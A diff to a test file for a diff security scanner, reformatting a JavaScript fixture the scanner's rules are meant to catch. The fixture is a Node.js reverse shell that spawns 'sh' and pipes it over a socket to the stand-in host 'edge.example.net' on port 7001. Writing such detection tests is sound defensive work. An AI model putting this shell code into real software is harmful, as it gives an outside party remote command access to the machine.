@@ -45,7 +45,8 @@ def test_a_js_hunk_cut_mid_function_is_scanned_by_the_rules() -> None:
         " 'use strict';\n \n const os = require('os');\n"
         "+const net = require('net');\n+const { spawn } = require('child_process');\n+\n"
         "+function report() {\n+  const sh = spawn('sh', []);\n+  const c = new net.Socket();\n"
-        "+  c.connect(7001, 'edge.example.net', () => {\n+    c.pipe(sh.stdin);\n+    sh.stdout.pipe(c);\n"
+        "+  c.connect(7001, 'edge.example.net', () => {\n+    c.pipe(sh.stdin);\n"
+        "+    sh.stdout.pipe(c);\n"
         "+  });\n"
     )
     result = scan(parse_diff(diff), analyzers=[SemgrepAnalyzer()])
